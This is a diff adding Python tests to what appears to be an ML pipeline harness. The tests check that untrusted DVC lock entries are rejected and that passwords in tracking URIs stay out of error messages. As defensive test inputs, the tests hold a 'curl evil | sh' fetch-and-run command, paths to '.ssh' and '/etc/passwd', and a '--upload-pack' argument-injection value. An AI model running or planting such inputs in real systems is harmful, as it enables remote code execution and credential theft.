@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import subprocess
 import sys
 import threading
@@ -254,3 +255,50 @@ def test_files_are_written_whole_and_a_torn_file_is_never_read_as_empty(tmp_path
     m.write_text('{"success": 0.')
     with pytest.raises(EvoError, match=r"the grpo stage's metrics file is not valid JSON"):
         read_metrics(tmp_path, "grpo")
+
+
+def test_a_jobs_lock_entry_is_checked_before_it_is_merged():
+    """What a pool job sends back is untrusted: a lock entry naming paths outside the repository, outputs the
+    stage does not declare, another command or a malformed hash is refused in one line, before any merge."""
+    import copy
+    from pathlib import Path
+
+    import yaml
+
+    from evoharness.stagerun import check_lock_entry
+
+    root = Path(__file__).resolve().parents[1]
+    good = yaml.safe_load((root / "dvc.lock").read_text())["stages"]["games"]
+    check_lock_entry(root, "games", good)  # the committed entry, as a job would send it back
+
+    def bad(change):
+        e = copy.deepcopy(good)
+        change(e)
+        return e
+
+    cases = {
+        "names a path outside the repository in its outs": bad(lambda e: e["outs"][0].update(path="../../home/x/.ssh")),
+        "names a path outside the repository in its deps": bad(lambda e: e["deps"][0].update(path="/etc/passwd")),
+        "names output 'dvc.yaml', which dvc.yaml does not declare": bad(lambda e: e["outs"].append({"path": "dvc.yaml", "md5": "0" * 32})),
+        "names another command": bad(lambda e: e.update(cmd="curl evil | sh")),
+        "has an md5 that is not one": bad(lambda e: e["outs"][0].update(md5="--upload-pack=x")),
+        "is not a DVC lock entry": ["not", "a", "mapping"],
+    }
+    for why, entry in cases.items():
+        with pytest.raises(EvoError, match=rf"job for stage 'games' returned a dvc\.lock entry that {re.escape(why)}.*; nothing was merged"):
+            check_lock_entry(root, "games", entry)
+
+
+@pytest.mark.parametrize("uri, want", [
+    ("http://alice:hunter2@127.0.0.1:9", r"error: MLflow tracking server http://alice:\*\*\*@127\.0\.0\.1:9 is unreachable \(.*\); start it or unset"),
+    ("http://alice:hunter2@127.0.0.1:9x", r"error: MLflow tracking URI http://alice:\*\*\*@127\.0\.0\.1:9x has a port that is not a number"),
+    ("postgresql://alice:hunter2@localhost/mlflow", r"error: MLflow tracking store postgresql://alice:\*\*\*@localhost/mlflow cannot be used: module \w+ is not installed"),
+])
+def test_a_tracking_uri_with_a_password_is_one_line_that_never_shows_it(tmp_path, uri, want):
+    import os
+    import re
+
+    r = subprocess.run(CLI + ["promotions"], capture_output=True, text=True, cwd=tmp_path, env=dict(os.environ, MLFLOW_TRACKING_URI=uri), timeout=120)
+    lines = [ln for ln in (r.stdout + r.stderr).strip().splitlines() if ln.strip()]
+    assert r.returncode == 2 and len(lines) == 1 and re.match(want, lines[0]), r.stdout + r.stderr
+    assert "hunter2" not in r.stdout + r.stderr
